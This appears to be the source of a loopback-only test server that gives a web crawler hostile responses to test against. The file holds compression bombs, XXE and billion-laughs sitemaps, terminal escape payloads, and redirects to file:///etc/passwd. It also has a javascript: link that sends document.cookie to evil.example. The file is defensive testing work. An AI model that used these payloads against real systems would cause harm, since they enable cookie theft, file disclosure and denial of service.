"""A misbehaving web site on 127.0.0.1 for testing the crawler against the hostile web.

The home page links to one path per fault (5xx with and without Retry-After, flaky pages
that recover, timeouts, stalled and truncated bodies, connection resets, redirect loops
and off-host redirects, non-HTML served as HTML, encoding damage, a 50 MB page,
compression bombs, malformed and XXE sitemaps, terminal escape sequences, odd link
schemes) plus a few good articles copied from the sample site, so that a crawl has
something to succeed on. Every request is counted per path (``server.hits[path]``) and
logged (``server.requests``), so tests can check what the crawler did.

The server doubles as a catching proxy: point ``http_proxy``/``https_proxy`` at it
(with ``no_proxy=127.0.0.1``) and any request the crawler makes to another host lands
here instead of on the network, recorded in ``server.offsite`` and refused. Only
loopback is ever bound; no other address is ever contacted by the server.

    with FaultServer() as server:
        ... crawl server.url ...
        assert server.hits["/status/503"] == 2

``python -m tools.faultserver [--port N] [--die-after K]`` serves it by hand.
"""

from __future__ import annotations

import argparse
import base64
import html
import http.server
import random
import re
import socket
import struct
import sys
import threading
import time
import zlib
from collections import Counter
from pathlib import Path
from urllib.parse import urlsplit

ROOT = Path(__file__).resolve().parent.parent
SAMPLE_ARTICLES = ROOT / "data" / "sample_site" / "article"

MB = 1024 * 1024
BIG_PAGE_BYTES = 50 * MB
BOMB_INFLATED_MB = 1024  # both bombs inflate to 1 GiB
# Retry-After of the -ra error pages: longer than any pacing the crawler does on its own
# (Scrapy's default DOWNLOAD_DELAY is 1 s), so a test can tell whether it is honoured.
RETRY_AFTER_SLOW = 3
IDN_LOOKALIKE = "http://xn--80ak6aa92e.com/"  # "аррӏе.com" in Cyrillic

# path -> what it does (the home page links to each, in this order)
FAULTS: dict[str, str] = {
    "/status/500": "500, no Retry-After",
    "/status/500-ra": "500 with Retry-After: 3",
    "/status/502": "502, no Retry-After",
    "/status/502-ra": "502 with Retry-After: 3",
    "/status/503": "503, no Retry-After",
    "/status/503-ra": "503 with Retry-After: 3",
    "/flaky/503-once.html": "503 on the first request, the article on the second",
    "/flaky/429-once.html": "429 with Retry-After: 1, then the article",
    "/flaky/429-slow-once.html": "429 with Retry-After: 3, then the article",
    "/slow/timeout": "never answers (bounded sleep, then closes)",
    "/slow/stall": "headers and half the body, then stalls",
    "/broken/reset": "half the body, then a TCP reset",
    "/broken/truncated": "Content-Length larger than the body sent",
    "/redirect/loop": "302 to /redirect/loop2, which 302s back",
    "/redirect/self": "302 to itself",
    "/redirect/offsite-invalid": "302 to http://example.invalid/x",
    "/redirect/offsite-ip": "302 to http://127.0.0.2:PORT/article/1.html",
    "/redirect/offsite-idn": "301 to an IDN look-alike host",
    "/redirect/to-file": "302 to file:///etc/passwd",
    "/redirect/to-data": "302 to a data: URL holding an article",
    "/redirect/chain/1": "302 -> 2 -> 3 -> a good article (chain of 3)",
    "/nonhtml/pdf": "PDF bytes as text/html",
    "/nonhtml/png": "a PNG as text/html",
    "/nonhtml/json": "JSON with Chinese prose as text/html",
    "/nonhtml/octet-html": "a real article as application/octet-stream",
    "/empty": "200 with an empty body",
    "/script-only": "a page that is all <script>",
    "/deep": "10,000-deep <div> nesting",
    "/regex/digits": "an article over a 30,000-digit run and a 20,000-item comma list",
    "/encoding/utf8-invalid.html": "an article declaring utf-8 with invalid bytes",
    "/encoding/gbk-invalid.html": "an article in gbk with invalid bytes",
    "/big/50mb": "a 50 MB page with Content-Length",
    "/big/50mb-chunked": "a 50 MB page, chunked (no length)",
    "/bomb/gzip": "Content-Encoding: gzip, ~1 MB inflating to 1 GiB",
    "/bomb/brotli": "Content-Encoding: br, a few KB inflating to 1 GiB",
    "/tty/1.html": "an article with ANSI/OSC escapes, bidi overrides, C0/C1 controls",
    "/tty/2.html": "another article with escapes in the title and steps",
    "/links/schemes.html": "links with file:, ftp:, javascript:, data: and look-alike hosts",
    "/base.html": '<base href="http://evil.example/"> with relative links',
    "/private/secret.html": "disallowed by robots.txt",
}

# sitemaps named in robots.txt (besides the good /sitemap.xml)
BAD_SITEMAPS = (
    "/sitemap-malformed.xml",
    "/sitemap-garbage.xml",
    "/sitemap-xxe.xml",
    "/sitemap-xxe-param.xml",
    "/sitemap-laughs.xml",
    "/sitemap-offsite.xml",
    "/sitemap-index-offsite.xml",
    "/sitemap-bomb.xml.gz",
)
# canaries: any request for these means an XML entity was resolved
XXE_CANARIES = ("/xxe/canary", "/xxe/dtd")

_H1 = re.compile(r"<h1>(.*?)</h1>", re.S)
_HREF = re.compile(r'(<a\b[^>]*?\bhref=")([^"]*)(")', re.I)
_CANONICAL = re.compile(r'<link rel="canonical" href="[^"]*">')


def _sample(n: int) -> str:
    return (SAMPLE_ARTICLES / f"{n}.html").read_text("utf-8")


def sample_title(n: int) -> str:
    """The <h1> of sample article n (what a record's title should be)."""
    m = _H1.search(_sample(n))
    assert m, n
    return html.unescape(m.group(1)).strip()


# -- compression bombs (built once per process, in chunks, never 1 GiB in memory) ---------

_bomb_lock = threading.Lock()
_bombs: dict[str, bytes] = {}
_BOMB_PREFIX = (
    "<!DOCTYPE html><html><head><meta charset='utf-8'><title>压缩炸弹</title></head>"
    "<body><h1>压缩炸弹</h1><p>这个页面解压后有一个G，爬虫应该在十兆处停下。</p>"
).encode()


def gzip_bomb() -> bytes:
    """~1 MB of gzip that inflates to 1 GiB (an HTML head, then zeros).

    Each 1 MiB block of zeros is deflated by a fresh compressor and ended with a full
    flush, so the blocks are identical and independent: one is compressed, then repeated.
    """
    with _bomb_lock:
        if "gzip" not in _bombs:
            zeros = bytes(MB)

            def block(data: bytes) -> bytes:
                c = zlib.compressobj(9, zlib.DEFLATED, -15)
                return c.compress(data) + c.flush(zlib.Z_FULL_FLUSH)

            crc = zlib.crc32(_BOMB_PREFIX)
            for _ in range(BOMB_INFLATED_MB):
                crc = zlib.crc32(zeros, crc)
            size = len(_BOMB_PREFIX) + BOMB_INFLATED_MB * MB
            end = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
            _bombs["gzip"] = b"".join(
                [
                    b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff",
                    block(_BOMB_PREFIX),
                    block(zeros) * BOMB_INFLATED_MB,
                    end,
                    struct.pack("<II", crc, size & 0xFFFFFFFF),
                ]
            )
        return _bombs["gzip"]


def brotli_bomb() -> bytes | None:
    """A few KB of brotli inflating to 1 GiB, or None without the brotli module."""
    try:
        import brotli
    except ImportError:
        return None
    with _bomb_lock:
        if "br" not in _bombs:
            c = brotli.Compressor(quality=5)
            zeros = bytes(MB)
            parts = [c.process(_BOMB_PREFIX)]
            parts += [c.process(zeros) for _ in range(BOMB_INFLATED_MB)]
            parts.append(c.finish())
            _bombs["br"] = b"".join(parts)
        return _bombs["br"]


def _png(text: str) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    raw = b"".join(b"\x00" + bytes(range(48)) for _ in range(16))  # 16x16 RGB
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0))
        + chunk(b"iTXt", b"Description\x00\x00\x00\x00\x00" + text.encode())
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def _data_article(n: int) -> bytes:
    """A small article (short enough for a Location header) for data: URLs."""
    paragraphs = re.findall(r"<p[^>]*>.*?</p>", _sample(n), re.S)[:6]
    return (
        f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>{sample_title(n)}</title>"
        f"</head><body><h1>{sample_title(n)}</h1>{''.join(paragraphs)}</body></html>"
    ).encode()


_PROSE = (
    "打开淘宝APP，进入我的订单，找到需要退款的订单，点击申请退款，选择退款原因并提交，"
    "等待商家处理即可。如果商家拒绝，可以申请平台客服介入处理。"
)

# Terminal attacks: clear screen, colour, OSC 52 clipboard write, OSC 0 window title,
# BEL, 8-bit CSI (C1), bidi override/isolates, backspace, NUL, DEL. Some are given as
# raw characters, some as numeric character references (which lxml turns into the
# real characters even where it drops raw ones).
TTY_RAW = "\x1b[2J\x1b[31m\x1b]52;c;ZWNobyBwd25lZA==\x07\u202e\x9b31m\x08\x7f\x00\x0b\x0c\x85"
TTY_REFS = (
    "&#x1b;[2J&#27;]52;c;ZWNobyBwd25lZA==&#7;&#x1b;]0;pwned&#x7;&#x9b;1m&#x202e;&#x2066;&#x8;&#x90;"
)


class FaultServer:
    """A threaded misbehaving HTTP server on 127.0.0.1; use as a context manager.

    n_good:       sample articles 1..n_good are linked from the home page (more sample
                  articles serve the chain target, the sitemap-only page, flaky pages...)
    minimal:      sitemaps=False and article_links=False (for crawls that should fetch
                  only their start URLs)
    sitemaps:     robots.txt names the good and the bad sitemaps (else none, and
                  /sitemap.xml is 404)
    article_links: articles link to the other good articles (else their links go nowhere)
    home_faults:  the home page links to every fault (else only to the good articles)
    die_after:    after this many requests the server stops accepting connections
    slow_seconds: upper bound on how long the timeout/stall faults hold a connection
    flaky_rate:   soak mode: each good article fails (503/500/429/reset/truncated) on
                  its first request with this probability, then serves normally
    """

    def __init__(
        self,
        port: int = 0,
        *,
        n_good: int = 5,
        minimal: bool = False,
        sitemaps: bool = True,
        article_links: bool = True,
        home_faults: bool = True,
        die_after: int | None = None,
        slow_seconds: float = 8.0,
        flaky_rate: float = 0.0,
        seed: int = 0,
    ) -> None:
        available = len(list(SAMPLE_ARTICLES.glob("*.html")))
        if n_good < 1 or n_good + 13 > available:
            raise ValueError(f"n_good must be 1..{available - 13} (13 articles serve the faults)")
        self.n_good = n_good
        self.sitemaps = sitemaps and not minimal
        self.article_links = article_links and not minimal
        self.home_faults = home_faults
        self.die_after = die_after
        self.slow_seconds = slow_seconds
        self.flaky_rate = flaky_rate
        self.rng = random.Random(seed)
        self.lock = threading.Lock()
        self.hits: Counter[str] = Counter()
        self.bytes_sent: Counter[str] = Counter()
        self.requests: list[dict] = []  # every direct request: time, method, target, host
        self.offsite: list[dict] = []  # proxied (absolute-URI or CONNECT) requests
        self.flaky_failed: dict[str, str] = {}  # soak: path -> fault served first
        self.total = 0
        self.dead = False
        self._stop = threading.Event()
        self._closed = False
        handler = type("_BoundHandler", (_Handler,), {"fault": self})
        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", port), handler)
        self.httpd.daemon_threads = True
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.host, self.port = self.httpd.server_address[:2]
        # numbers of the sample articles behind each special page
        n = n_good
        self.special = {
            "chain": n + 1,
            "sitemap": n + 2,
            "flaky503": n + 3,
            "flaky429": n + 4,
            "utf8": n + 5,
            "gbk": n + 6,
            "tty1": n + 7,
            "tty2": n + 8,
            "octet": n + 9,
            "data": n + 10,
            "after_links": n + 11,
            "after_sitemap": n + 12,
            "flaky429slow": n + 13,
        }
        self._pages = self._build_pages()
        gzip_bomb()
        brotli_bomb()

    # -- public ----------------------------------------------------------------------------

    @property
    def netloc(self) -> str:
        return f"{self.host}:{self.port}"

    @property
    def url(self) -> str:
        return f"http://{self.netloc}/"

    def url_for(self, path: str) -> str:
        return f"http://{self.netloc}{path}"

    def expected_articles(self) -> dict[str, str]:
        """path -> title of every page a full crawl should store (as its own URL)."""
        s = self.special
        paths = {f"/article/{i}.html": i for i in range(1, self.n_good + 1)}
        paths[f"/article/{s['chain']}.html"] = s["chain"]
        paths[f"/article/{s['sitemap']}.html"] = s["sitemap"]
        paths["/flaky/503-once.html"] = s["flaky503"]
        paths["/flaky/429-once.html"] = s["flaky429"]
        paths["/flaky/429-slow-once.html"] = s["flaky429slow"]
        paths["/encoding/utf8-invalid.html"] = s["utf8"]
        paths["/encoding/gbk-invalid.html"] = s["gbk"]
        paths["/links/after-hostile.html"] = s["after_links"]
        paths["/sitemap/after-hostile.html"] = s["after_sitemap"]
        return {p: sample_title(n) for p, n in paths.items()}

    def tty_paths(self) -> list[str]:
        return ["/tty/1.html", "/tty/2.html"]

    def start(self) -> FaultServer:
        self.thread.start()
        return self

    def stop(self) -> None:
        self._stop.set()
        if not self._closed:
            self._closed = True
            if not self.dead:
                self.httpd.shutdown()
            self.httpd.server_close()

    def __enter__(self) -> FaultServer:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()

    def hosts_seen(self) -> set[str]:
        with self.lock:
            return {r["host"] for r in self.requests}

    # -- bookkeeping -----------------------------------------------------------------------

    def _record(self, method: str, target: str, host: str) -> tuple[int, bool]:
        """Count a direct request; return (this path's hit number, whether to refuse it)."""
        path = urlsplit(target).path or "/"
        with self.lock:
            self.total += 1
            self.hits[path] += 1
            self.requests.append(
                {"time": time.monotonic(), "method": method, "target": target, "host": host}
            )
            n = self.hits[path]
            refuse = self.dead
            if self.die_after is not None and self.total >= self.die_after and not self.dead:
                self.dead = True
                threading.Thread(target=self._die, daemon=True).start()
        return n, refuse

    def _die(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()

    def hit_times(self, path: str) -> list[float]:
        with self.lock:
            return [r["time"] for r in self.requests if urlsplit(r["target"]).path == path]

    # -- content ---------------------------------------------------------------------------

    def _article(self, n: int, path: str, *, link: bool = True) -> str:
        """Sample article n, canonical to `path`, links only to good articles (or nowhere)."""
        text = _CANONICAL.sub(f'<link rel="canonical" href="{path}">', _sample(n))
        good = {f"/article/{i}.html" for i in range(1, self.n_good + 1)}

        def fix(m: re.Match) -> str:
            href = m.group(2)
            if href.startswith("javascript:"):
                return m.group(0)
            keep = link and self.article_links and href in good
            return m.group(1) + (href if keep else "#") + m.group(3)

        return _HREF.sub(fix, text)

    def _build_pages(self) -> dict[str, tuple[int, str, bytes]]:
        """Static pages: path -> (status, content type, body)."""
        s = self.special
        pages: dict[str, tuple[int, str, bytes]] = {}
        html_ct = "text/html; charset=utf-8"
        home = [
            "<!DOCTYPE html><html><head><meta charset='utf-8'><title>故障测试站</title></head>",
            "<body><h1>故障测试站</h1><ul>",
        ]
        for i in range(1, self.n_good + 1):
            home.append(f"<li><a href='/article/{i}.html'>文章{i}</a></li>")
        for path, what in FAULTS.items() if self.home_faults else ():
            home.append(f"<li><a href='{path}'>{html.escape(what)}</a></li>")
        home.append("</ul></body></html>")
        pages["/"] = (200, html_ct, "\n".join(home).encode())

        for i in range(1, self.n_good + 3):
            pages[f"/article/{i}.html"] = (
                200,
                html_ct,
                self._article(i, f"/article/{i}.html").encode(),
            )
        pages[f"/article/{s['chain']}.html"] = (
            200,
            html_ct,
            self._article(s["chain"], f"/article/{s['chain']}.html").encode(),
        )
        for name, path in (
            ("flaky503", "/flaky/503-once.html"),
            ("flaky429", "/flaky/429-once.html"),
            ("flaky429slow", "/flaky/429-slow-once.html"),
            ("after_links", "/links/after-hostile.html"),
            ("after_sitemap", "/sitemap/after-hostile.html"),
        ):
            pages[path] = (200, html_ct, self._article(s[name], path).encode())

        # robots.txt and sitemaps
        base = f"http://{self.netloc}"
        robots = ["User-agent: *", "Disallow: /print/", "Disallow: /private/", ""]
        if self.sitemaps:
            robots.append(f"Sitemap: {base}/sitemap.xml")
            robots += [f"Sitemap: {base}{p}" for p in BAD_SITEMAPS]
            robots.append("Sitemap: http://example.invalid/sitemap.xml")
        pages["/robots.txt"] = (
            200,
            "text/plain; charset=utf-8",
            ("\n".join(robots) + "\n").encode(),
        )
        ns = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
        if self.sitemaps:
            pages["/sitemap.xml"] = (
                200,
                "application/xml",
                (
                    f'<?xml version="1.0" encoding="UTF-8"?>\n<urlset {ns}>\n'
                    f"<url><loc>{base}/article/{s['sitemap']}.html</loc></url>\n"
                    f"<url><loc>{base}/article/1.html</loc></url>\n</urlset>\n"
                ).encode(),
            )
        pages["/sitemap-malformed.xml"] = (
            200,
            "application/xml",
            (
                f'<?xml version="1.0" encoding="UTF-8"?>\n<urlset {ns}>\n'
                f"<url><loc>{base}/article/2.html</loc></url>\n<url><loc>{base}/art"
                "<<<>>>&&&;</urlset"
            ).encode(),
        )
        pages["/sitemap-garbage.xml"] = (
            200,
            "application/xml",
            b'<?xml version="1.0"?><urlset>\x00\xff\xfe' + bytes(range(256)) * 4,
        )
        pages["/sitemap-xxe.xml"] = (
            200,
            "application/xml",
            (
                '<?xml version="1.0" encoding="UTF-8"?>\n'
                '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">'
                f'<!ENTITY h SYSTEM "{base}/xxe/canary">]>\n'
                f"<urlset {ns}>\n"
                f"<url><loc>{base}/xxe/file-&e;</loc></url>\n"
                f"<url><loc>{base}/xxe/http-&h;</loc></url>\n"
                f"<url><loc>&e;</loc></url>\n"
                f"<url><loc>{base}/article/3.html</loc></url>\n</urlset>\n"
            ).encode(),
        )
        pages["/sitemap-xxe-param.xml"] = (
            200,
            "application/xml",
            (
                '<?xml version="1.0" encoding="UTF-8"?>\n'
                f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{base}/xxe/dtd"> %p;]>\n'
                f"<urlset {ns}><url><loc>{base}/article/4.html</loc></url></urlset>\n"
            ).encode(),
        )
        laughs = ['<!ENTITY l0 "lol">']
        for i in range(1, 10):
            laughs.append(f'<!ENTITY l{i} "' + f"&l{i - 1};" * 10 + '">')
        pages["/sitemap-laughs.xml"] = (
            200,
            "application/xml",
            (
                '<?xml version="1.0"?>\n<!DOCTYPE x [' + "".join(laughs) + "]>\n"
                f"<urlset {ns}><url><loc>{base}/laughs/&l9;</loc></url></urlset>\n"
            ).encode(),
        )
        pages["/sitemap-offsite.xml"] = (
            200,
            "application/xml",
            (
                f'<?xml version="1.0" encoding="UTF-8"?>\n<urlset {ns}>\n'
                "<url><loc>http://example.invalid/a.html</loc></url>\n"
                f"<url><loc>http://127.0.0.2:{self.port}/article/1.html</loc></url>\n"
                f"<url><loc>{IDN_LOOKALIKE}</loc></url>\n"
                f"<url><loc>http://{self.netloc}.evil.example/</loc></url>\n"
                f"<url><loc>http://{self.netloc}@evil.example/at</loc></url>\n"
                "<url><loc>file:///etc/passwd</loc></url>\n"
                f"<url><loc>ftp://{self.netloc}/article/5.html</loc></url>\n"
                f"<url><loc>{base}/sitemap/after-hostile.html</loc></url>\n"
                "</urlset>\n"
            ).encode(),
        )
        pages["/sitemap-index-offsite.xml"] = (
            200,
            "application/xml",
            (
                '<?xml version="1.0" encoding="UTF-8"?>\n'
                '<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
                "<sitemap><loc>http://example.invalid/sitemap2.xml</loc></sitemap>"
                f"<sitemap><loc>http://127.0.0.2:{self.port}/sitemap.xml</loc></sitemap>"
                "</sitemapindex>\n"
            ).encode(),
        )
        pages["/sitemap-bomb.xml.gz"] = (200, "application/x-gzip", gzip_bomb())

        # non-HTML served as HTML, and HTML served as something else
        pages["/nonhtml/pdf"] = (
            200,
            "text/html",
            b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Length 200 >>\nstream\nBT /F1 12 Tf ("
            + ("如何申请退款？" + _PROSE).encode()
            + b") Tj ET\nendstream\nendobj\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< >>\n%%EOF\n",
        )
        pages["/nonhtml/png"] = (200, "text/html", _png("<h1>如何申请退款</h1><p>" + _PROSE * 2))
        pages["/nonhtml/json"] = (
            200,
            "text/html; charset=utf-8",
            (
                '{"title": "淘宝仅退款怎么申请", "h1": "<h1>淘宝仅退款怎么申请</h1>", '
                f'"content": "{_PROSE * 3}", "steps": ["打开淘宝APP", "进入我的订单"]}}'
            ).encode(),
        )
        pages["/nonhtml/octet-html"] = (
            200,
            "application/octet-stream",
            self._article(s["octet"], "/nonhtml/octet-html").encode(),
        )
        pages["/empty"] = (200, "text/html; charset=utf-8", b"")
        pages["/script-only"] = (
            200,
            html_ct,
            (
                "<html><head><script>var title='淘宝仅退款怎么申请';</script></head><body>"
                + "".join(f"<script>document.write('<p>{_PROSE}</p>');</script>" for _ in range(20))
                + "</body></html>"
            ).encode(),
        )
        # lines that made date and meta-line patterns backtrack in quadratic time: an order
        # dump of one 30,000-digit run, and a 20,000-item "9," list (seconds to minutes a page)
        pages["/regex/digits"] = (
            200,
            html_ct,
            (
                "<!DOCTYPE html><html><head><meta charset='utf-8'><title>订单号导出说明</title>"
                "</head><body><h1>订单号导出说明</h1><p>发布时间：2024-03-01 10:00</p><p>"
                + _PROSE
                + "</p><p>"
                + "1" * 30_000
                + "</p><p>"
                + "9," * 20_000
                + "</p><p>"
                + _PROSE
                + "</p></body></html>"
            ).encode(),
        )
        pages["/deep"] = (
            200,
            html_ct,
            (
                "<!DOCTYPE html><html><head><meta charset='utf-8'><title>深层嵌套</title></head><body>"
                + "<div>" * 10_000
                + "<h1>深层嵌套的页面</h1><p>"
                + _PROSE * 2
                + "</p>"
                + "</div>" * 10_000
                + "</body></html>"
            ).encode(),
        )

        # encoding damage: the title stays readable, the body has invalid bytes
        utf8 = self._article(s["utf8"], "/encoding/utf8-invalid.html").encode()
        utf8 = re.sub(
            rb"(<p style)", lambda m: b"\xff\xfe\xc3\x28\xed\xa0\x80" + m.group(1), utf8, count=4
        )
        pages["/encoding/utf8-invalid.html"] = (200, html_ct, utf8)
        gbk_text = self._article(s["gbk"], "/encoding/gbk-invalid.html").replace(
            '<meta charset="utf-8">', '<meta charset="gbk">'
        )
        gbk = gbk_text.encode("gbk", "replace")
        gbk = re.sub(rb"(<p style)", lambda m: b"\x80\xff\xff" + m.group(1), gbk, count=3)
        pages["/encoding/gbk-invalid.html"] = (200, "text/html; charset=gbk", gbk)

        # terminal attacks in title and steps
        for path, n, where in (
            ("/tty/1.html", s["tty1"], "raw"),
            ("/tty/2.html", s["tty2"], "refs"),
        ):
            text = self._article(n, path)
            attack = TTY_RAW if where == "raw" else TTY_REFS
            other = TTY_REFS if where == "raw" else TTY_RAW
            text = re.sub(
                r"<h1>(.*?)</h1>",
                lambda m, a=attack: f"<h1>{m.group(1)[:6]}{a}{m.group(1)[6:]}</h1>",
                text,
                count=1,
                flags=re.S,
            )
            text = re.sub(
                r"<title>(.*?)</title>",
                lambda m, a=attack: f"<title>{a}{m.group(1)}</title>",
                text,
                count=1,
                flags=re.S,
            )
            # every paragraph of the body gets a payload, so steps and snippets carry one
            text = re.sub(
                r"(<p[^>]*>)(<span[^>]*>)?",
                lambda m, a=attack, o=other: m.group(0) + a + "退款" + o,
                text,
            )
            pages[path] = (200, html_ct, text.encode("utf-8"))

        # link schemes and look-alike hosts
        data_article = base64.b64encode(_data_article(s["data"])).decode()
        links = [
            ("file:///etc/passwd", "本地文件"),
            (f"ftp://{self.netloc}/article/5.html", "FTP"),
            ("javascript:fetch('http://evil.example/'+document.cookie)", "脚本"),
            (f"data:text/html;base64,{data_article}", "data 文章"),
            ("mailto:a@evil.example", "邮件"),
            ("tel:10086", "电话"),
            (IDN_LOOKALIKE, "IDN 仿冒"),
            ("http://аррӏе.com/", "IDN 仿冒 unicode"),
            (f"http://{self.netloc}@evil.example/userinfo", "userinfo 仿冒"),
            (f"http://{self.netloc}.evil.example/suffix", "后缀仿冒"),
            ("//evil.example/protocol-relative", "协议相对"),
            ("http://evil.example/", "外站"),
            (f"http://127.0.0.2:{self.port}/article/2.html", "另一个回环地址"),
            (f"http://0x7f000001:{self.port}/article/2.html", "十六进制 IP"),
            (f"http://[::1]:{self.port}/article/2.html", "IPv6 回环"),
            ("/article/3.html", "正常文章"),
            ("/links/after-hostile.html", "在危险链接之后"),
        ]
        pages["/links/schemes.html"] = (
            200,
            html_ct,
            (
                "<!DOCTYPE html><html><head><meta charset='utf-8'><title>各种链接</title></head><body>"
                "<h1>各种链接</h1><ul>"
                + "".join(
                    f'<li><a href="{html.escape(h)}">{html.escape(t)}</a></li>' for h, t in links
                )
                + "</ul></body></html>"
            ).encode(),
        )
        pages["/base.html"] = (
            200,
            html_ct,
            (
                "<!DOCTYPE html><html><head><meta charset='utf-8'><title>base 标签</title>"
                '<base href="http://evil.example/"></head><body><h1>base 标签</h1><ul>'
                '<li><a href="article/4.html">相对链接</a></li>'
                '<li><a href="evil-only.html">只在外站存在</a></li>'
                '<li><a href="/article/5.html">根相对链接</a></li>'
                "</ul></body></html>"
            ).encode(),
        )
        pages["/private/secret.html"] = (
            200,
            html_ct,
            self._article(1, "/private/secret.html").encode(),
        )
        pages["/xxe/canary"] = (200, "text/plain", b"XXE-CANARY-RESOLVED")
        pages["/xxe/dtd"] = (200, "application/xml-dtd", b'<!ENTITY q "XXE-DTD-RESOLVED">')
        return pages

    def big_page_head(self) -> bytes:
        return (
            "<!DOCTYPE html><html><head><meta charset='utf-8'><title>五十兆的页面</title></head>"
            f"<body><h1>五十兆的页面怎么处理</h1><div class='content'><p>{_PROSE}</p>"
        ).encode()


class _Handler(http.server.BaseHTTPRequestHandler):
    server_version = "faultserver/1.0"
    protocol_version = "HTTP/1.1"
    fault: FaultServer  # set on the per-server subclass

    def log_message(self, format: str, *args) -> None:  # quiet
        pass

    # -- plumbing --------------------------------------------------------------------------

    def _write(self, data: bytes) -> bool:
        try:
            self.wfile.write(data)
        except OSError:
            return False
        with self.fault.lock:
            self.fault.bytes_sent[urlsplit(self.path).path] += len(data)
        return True

    def _send(
        self,
        status: int,
        body: bytes = b"",
        ctype: str = "text/html; charset=utf-8",
        headers: dict[str, str] | None = None,
    ) -> None:
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        for k, v in (headers or {}).items():
            self.send_header(k, v)
        self.end_headers()
        self.close_connection = True
        if self.command != "HEAD":
            self._write(body)

    def _reset(self) -> None:
        """Abort the connection with a TCP RST (SO_LINGER 0), not a clean FIN."""
        try:
            self.wfile.flush()
        except OSError:
            pass
        self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.connection.close()  # the fd closes (with RST) when finish() drops the files
        self.close_connection = True

    def _redirect(self, location: str, status: int = 302) -> None:
        self._send(status, b"", headers={"Location": location})

    # -- methods ---------------------------------------------------------------------------

    def do_GET(self) -> None:
        self._dispatch()

    def do_HEAD(self) -> None:
        self._dispatch()

    def do_POST(self) -> None:
        self._dispatch()

    def do_CONNECT(self) -> None:
        self._offsite()

    def _offsite(self) -> None:
        with self.fault.lock:
            self.fault.offsite.append(
                {"time": time.monotonic(), "method": self.command, "target": self.path}
            )
        self._send(403, b"faultserver: off-host request caught", "text/plain")

    def _dispatch(self) -> None:  # noqa: C901 - one branch per fault, on purpose
        f = self.fault
        if self.path.startswith(("http://", "https://")) or not self.path.startswith("/"):
            self._offsite()
            return
        n, refuse = f._record(self.command, self.path, self.headers.get("Host", ""))
        if refuse:
            self._reset()
            return
        path = urlsplit(self.path).path

        if (
            f.flaky_rate
            and path.startswith("/article/")
            and n == 1
            and f.rng.random() < f.flaky_rate
        ):
            self._flaky_failure(path)
            return

        if path == "/flaky/503-once.html" and n == 1:
            self._send(503, b"<h1>try again</h1>")
            return
        if path == "/flaky/429-once.html" and n == 1:
            self._send(429, b"<h1>slow down</h1>", headers={"Retry-After": "1"})
            return
        if path == "/flaky/429-slow-once.html" and n == 1:
            self._send(429, b"<h1>slow down</h1>", headers={"Retry-After": str(RETRY_AFTER_SLOW)})
            return
        if path in f._pages:
            status, ctype, body = f._pages[path]
            self._send(status, body, ctype)
            return

        m = re.fullmatch(r"/status/(\d{3})(-ra)?", path)
        if m:
            headers = {"Retry-After": str(RETRY_AFTER_SLOW)} if m.group(2) else {}
            self._send(int(m.group(1)), b"<h1>server error</h1>", headers=headers)
            return

        if path == "/slow/timeout":
            f._stop.wait(f.slow_seconds)
            self.close_connection = True
            return
        if path in ("/slow/stall", "/broken/reset", "/broken/truncated"):
            body = f._article(1, path).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header(
                "Content-Length", str(len(body) * (3 if path == "/broken/truncated" else 1))
            )
            self.send_header("Connection", "close")
            self.end_headers()
            self._write(body[: len(body) // 2])
            try:
                self.wfile.flush()
            except OSError:
                pass
            if path == "/slow/stall":
                f._stop.wait(f.slow_seconds)
            elif path == "/broken/reset":
                time.sleep(0.05)
                self._reset()
                return
            self.close_connection = True
            return

        if path == "/redirect/loop":
            return self._redirect("/redirect/loop2")
        if path == "/redirect/loop2":
            return self._redirect("/redirect/loop")
        if path == "/redirect/self":
            return self._redirect("/redirect/self")
        if path == "/redirect/offsite-invalid":
            return self._redirect("http://example.invalid/x")
        if path == "/redirect/offsite-ip":
            return self._redirect(f"http://127.0.0.2:{f.port}/article/1.html")
        if path == "/redirect/offsite-idn":
            return self._redirect(IDN_LOOKALIKE, 301)
        if path == "/redirect/to-file":
            return self._redirect("file:///etc/passwd")
        if path == "/redirect/to-data":
            doc = base64.b64encode(_data_article(f.special["data"])).decode()
            return self._redirect(f"data:text/html;base64,{doc}")
        m = re.fullmatch(r"/redirect/chain/(\d)", path)
        if m:
            step = int(m.group(1))
            target = (
                f"/redirect/chain/{step + 1}" if step < 3 else f"/article/{f.special['chain']}.html"
            )
            return self._redirect(target)

        if path in ("/big/50mb", "/big/50mb-chunked"):
            self._big(chunked=path.endswith("chunked"))
            return
        if path == "/bomb/gzip":
            self._send(200, gzip_bomb(), headers={"Content-Encoding": "gzip"})
            return
        if path == "/bomb/brotli":
            bomb = brotli_bomb()
            if bomb is None:
                self._send(404, b"no brotli module")
            else:
                self._send(200, bomb, headers={"Content-Encoding": "br"})
            return

        self._send(404, b"<h1>404</h1>")

    def _flaky_failure(self, path: str) -> None:
        """Soak mode: fail this first request for an article in one of five ways."""
        f = self.fault
        kind = f.rng.choice(["503", "500", "429", "reset", "truncated"])
        with f.lock:
            f.flaky_failed[path] = kind
        page = f._pages.get(path, (200, "", b"x" * 4000))[2]
